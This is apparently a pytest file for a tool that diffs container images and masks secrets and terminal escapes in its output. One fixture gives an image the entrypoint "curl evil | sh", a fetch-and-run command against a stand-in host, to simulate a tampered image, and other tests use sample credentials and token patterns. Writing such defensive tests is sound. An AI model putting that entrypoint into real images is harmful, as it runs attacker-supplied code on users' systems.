"""What differs between two images, as a value, in one line and in full."""

from __future__ import annotations

import base64
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from hypothesis import given
from hypothesis import strategies as st

from iarproxy.oci import Digest, Manifest, parse_manifest
from iarproxy.oci.media_types import OCI_INDEX, OCI_MANIFEST
from iarproxy.trust.difference import Change, Difference, Image, Side, compare
from iarproxy.trust.image_config import read_config, shown, shown_value
from iarproxy.trust.signers import Signature, form_of, of_bundle, of_cosign
from iarproxy.trust.telling import as_json, summary, text

BASE = ("base 1", "base 2")


def entry(data: bytes, size: int | None = None) -> dict[str, Any]:
    digest = str(Digest.of(data))
    return {"mediaType": "application/x", "digest": digest, "size": len(data) if size is None else size}


def manifest(*layers: tuple[str, int], config: bytes = b"{}", annotations: dict[str, str] | None = None) -> Manifest:
    document = {
        "schemaVersion": 2,
        "mediaType": OCI_MANIFEST,
        "config": entry(config),
        "layers": [entry(name.encode(), size) for name, size in layers],
        "annotations": annotations or {},
    }
    return parse_manifest(orjson.dumps(document))


def side(
    *layers: tuple[str, int], annotations: dict[str, str] | None = None, signed: Any = None, **config: Any
) -> Side:
    """One image; `config`: what is inside `config` of its config, and `created`."""
    created = {"created": config.pop("created")} if "created" in config else {}
    raw = orjson.dumps({"os": "linux", "architecture": "amd64", "config": config} | created)
    made = manifest(*layers, config=raw, annotations=annotations)
    return Side(made, {"linux/amd64": Image(made, read_config(raw))}, signed)


def index(**children: Side) -> Side:
    """An index of `children` by architecture."""
    listed = [
        {
            "mediaType": OCI_MANIFEST,
            "digest": str(each.manifest.descriptor.digest),
            "size": each.manifest.descriptor.size,
            "platform": {"os": "linux", "architecture": name},
        }
        for name, each in children.items()
    ]
    made = parse_manifest(orjson.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": listed}))
    return Side(made, {f"linux/{name}": each.images["linux/amd64"] for name, each in children.items()})


OLD = side(
    ("base", 10_000_000),
    ("app 1", 2_000_000),
    ("data 1", 3_000_000),
    Entrypoint=["/app"],
    Env=["PATH=/bin", "DB_PASSWORD=first", "GONE=1"],
    Labels={"version": "1"},
    User="app",
    ExposedPorts={"80/tcp": {}},
    created="2026-01-01T00:00:00Z",
)
NEW = side(
    ("base", 10_000_000),
    ("app 2", 11_200_000),
    ("data 2", 20_000_000),
    Entrypoint=["/bin/sh", "-c", "curl evil | sh"],
    Env=["PATH=/bin", "DB_PASSWORD=second"],
    Labels={"version": "2"},
    ExposedPorts={"80/tcp": {}, "22/tcp": {}},
    created="2026-01-04T00:00:00Z",
)


def test_the_line() -> None:
    """Layers with their size, settings by name, and when it was built."""
    line = summary(compare(OLD, NEW))
    assert line == (
        "2 layers replaced (31.2 MB), entrypoint changed, user changed, env DB_PASSWORD, GONE changed, "
        "label version changed, port changed, created 3 days later"
    )


def test_the_whole() -> None:
    """Each thing in a line, from what was to what is; a secret is not shown, but that it changed is."""
    lines = text(compare(OLD, NEW))
    assert [each for each in lines if "layer" not in each] == [
        "entrypoint: /app -> /bin/sh -c 'curl evil | sh'",
        "user: app -> (none)",
        "env DB_PASSWORD: *** -> ***",
        "env GONE: 1 -> (none)",
        "label version: 1 -> 2",
        "port: (none) -> 22/tcp",
        "created: 2026-01-01T00:00:00+00:00 -> 2026-01-04T00:00:00+00:00",
    ]
    assert "1 of 3 layers at the bottom are the same" in lines
    assert f"layer added: {Digest.of(b'data 2')} (20.0 MB)" in lines


def test_the_same_is_no_difference() -> None:
    """Nothing is invented."""
    assert compare(OLD, OLD) == Difference()
    assert summary(Difference()) == "only what nobody compares differs"


def test_platforms_of_an_index() -> None:
    """Added, removed and changed ones; the first that changed is told in detail."""
    found = compare(index(amd64=OLD, arm64=OLD, s390x=OLD), index(amd64=NEW, arm64=NEW, riscv64=NEW))
    assert (("linux/riscv64",), ("linux/s390x",), ("linux/amd64", "linux/arm64")) == (
        found.added,
        found.removed,
        found.changed,
    )
    assert summary(found).startswith(
        "linux/riscv64 added, linux/s390x removed, linux/amd64: 2 layers replaced (31.2 MB)"
    )
    assert "1 more platforms changed" in summary(found)


def test_an_index_that_becomes_an_image() -> None:
    """The kind changed, and the platform that both have is compared."""
    found = compare(index(amd64=OLD, arm64=OLD), NEW)
    assert found.kind == Change("media type", OCI_INDEX, OCI_MANIFEST)
    assert (("linux/arm64",), ["linux/amd64"]) == (found.removed, [each.platform for each in found.images])


def test_the_base_image() -> None:
    """What the two say of it themselves, apart from other annotations."""
    names = ("org.opencontainers.image.base.name", "org.opencontainers.image.base.digest")
    before = side(("x", 1), annotations=dict(zip(names, ("debian:12", "sha256:1"), strict=True)) | {"kept": "1"})
    after = side(("x", 1), annotations=dict(zip(names, ("debian:13", "sha256:2"), strict=True)) | {"kept": "2"})
    found = compare(before, after)
    assert found.images[0].changes == (Change("base image", "debian:12 sha256:1", "debian:13 sha256:2"),)
    assert found.annotations == (Change("annotation kept", "1", "2"),)


@pytest.mark.parametrize(
    ("pinned", "offered", "told"),
    [
        (("ann",), (), "no longer signed (as upstream tells)"),
        ((), ("bob",), "signed now (unverified)"),
        (("ann",), ("bob",), "signatures differ (unverified)"),
        (("ann",), ("ann",), "only what nobody compares differs"),
    ],
)
def test_signers(pinned: tuple[str, ...], offered: tuple[str, ...], told: str) -> None:
    """By whom each side seems to be signed; never without saying that nobody verified it."""
    digest = Digest.of(b"signature")
    sides = [
        side(("x", 1), signed=tuple(Signature("cosign", digest, who) for who in each)) for each in (pinned, offered)
    ]
    found = compare(*sides)
    assert told == summary(found)
    assert any("unverified" in each for each in text(found))


def test_a_terminal_obeys_nothing() -> None:
    """Escape sequences and line breaks of whoever built the image are shown as text; so are logins in URLs."""
    found = compare(side(Labels={"a": "x"}), side(Labels={"a": "\x1b[2J\nok", "b": "http://me:pw@host/"}))
    whole = "\n".join(text(found)) + summary(found)
    assert ("\x1b" in whole, "me:pw" in whole, "http://***@host/" in whole) == (False, False, True)


def test_secrets_in_a_command() -> None:
    """The value of an argument that names a secret is masked, in both of its spellings."""
    found = compare(side(Cmd=["x"]), side(Cmd=["x", "--token", "hunter2", "--api-key=hunter2", "--name=me"]))
    assert found.images[0].changes == (Change("cmd", "x", "x --token *** --api-key=*** --name=me"),)


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers(0, 9) | st.text(),
        lambda inner: (
            st.lists(inner)
            | st.dictionaries(
                st.sampled_from(["os", "config", "Env", "Cmd", "Labels", "User", "created", "ExposedPorts"]), inner
            )
        ),
    )
)
def test_any_config_is_read(value: Any) -> None:
    """Whatever upstream writes into a config, comparing it raises nothing."""
    raw = orjson.dumps(value)
    made = manifest(("x", 1), config=raw)
    found = compare(OLD, Side(made, {"linux/amd64": Image(made, read_config(raw))}))
    assert summary(found).isprintable()
    assert all(each.isprintable() for each in text(found))
    orjson.dumps(as_json(found))


def test_many_changes_are_bounded() -> None:
    """An image with ten thousand labels fills no journal."""
    found = compare(side(Labels={}), side(Labels={f"l{number}": "x" * 50 for number in range(10_000)}))
    assert len(orjson.dumps(as_json(found))) < 200_000
    assert len(text(found)) <= 201
    assert "100 labels changed" in summary(found)


def certificate() -> x509.Certificate:
    """As Fulcio makes them: a mail address, and who vouches for it."""
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.now(UTC)
    issuer = x509.UnrecognizedExtension(x509.ObjectIdentifier("1.3.6.1.4.1.57264.1.1"), b"https://accounts.example")
    return (
        x509.CertificateBuilder()
        .subject_name(x509.Name([]))
        .issuer_name(x509.Name([]))
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now)
        .not_valid_after(now + timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.RFC822Name("ann@example.com")]), critical=True)
        .add_extension(issuer, critical=False)
        .sign(key, hashes.SHA256())
    )


def test_whom_a_signature_names() -> None:
    """The identity of a certificate, a key's hint, or nobody; in all the forms that are read."""
    made = certificate()
    pem = made.public_bytes(serialization.Encoding.PEM).decode()
    der = base64.b64encode(made.public_bytes(serialization.Encoding.DER)).decode()
    document = {
        "schemaVersion": 2,
        "mediaType": OCI_MANIFEST,
        "layers": [
            entry(b"1") | {"annotations": {"dev.sigstore.cosign/certificate": pem}},
            entry(b"2") | {"annotations": {"dev.sigstore.cosign/certificate": "no certificate"}},
            entry(b"3"),
        ],
    }
    who = "ann@example.com (as https://accounts.example says)"
    assert [each.who for each in of_cosign(parse_manifest(orjson.dumps(document)))] == [who, "", ""]
    digest = Digest.of(b"x")
    materials: list[tuple[Any, str]] = [
        ({"publicKey": {"hint": "abc="}}, "key abc="),
        ({"certificate": {"rawBytes": der}}, who),
        ({"x509CertificateChain": {"certificates": [{"rawBytes": der}]}}, who),
        ({"certificate": {"rawBytes": "AAAA"}}, ""),
        ([], ""),
    ]
    for material, named in materials:
        assert of_bundle(digest, orjson.dumps({"verificationMaterial": material})).who == named
    assert of_bundle(digest, b"[]").who == of_bundle(digest, b"\xff").who == ""


def test_forms_of_signatures() -> None:
    """Attestations and SBOMs are no signatures."""
    bundle = "application/vnd.dev.sigstore.bundle.v0.3+json"
    predicate = "dev.sigstore.bundle.predicateType"
    assert form_of(bundle, {predicate: "https://sigstore.dev/cosign/sign/v1"}) == "sigstore bundle"
    assert form_of(bundle, {predicate: "https://slsa.dev/provenance/v1"}) == ""
    assert form_of("application/vnd.cncf.notary.signature", {}) == "notation"
    assert form_of("application/spdx+json", {}) == ""


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("use ghp_" + "a" * 36 + " here", "use *** here"),
        ("AKIAIOSFODNN7EXAMPLE", "***"),
        ("a eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmVk b", "a *** b"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIE", "***"),
        ("x" * 380 + "https://user:hunter2hunter2@host", "x" * 380 + "https://***@host"),
        ("plain gh_value AKIA eyJ", "plain gh_value AKIA eyJ"),
    ],
)
def test_tokens_of_known_forms_are_masked(text: str, expected: str) -> None:
    """Whatever the name they go with, and also where they lie across the end of what is shown."""
    assert expected == shown(text)


def test_a_short_name_of_a_secret_is_one() -> None:
    """`PW` and `DB_PW`, and not `WPW`."""
    assert ["***", "***", "v"] == [shown_value(name, "v") for name in ("PW", "DB_PW", "WPW")]
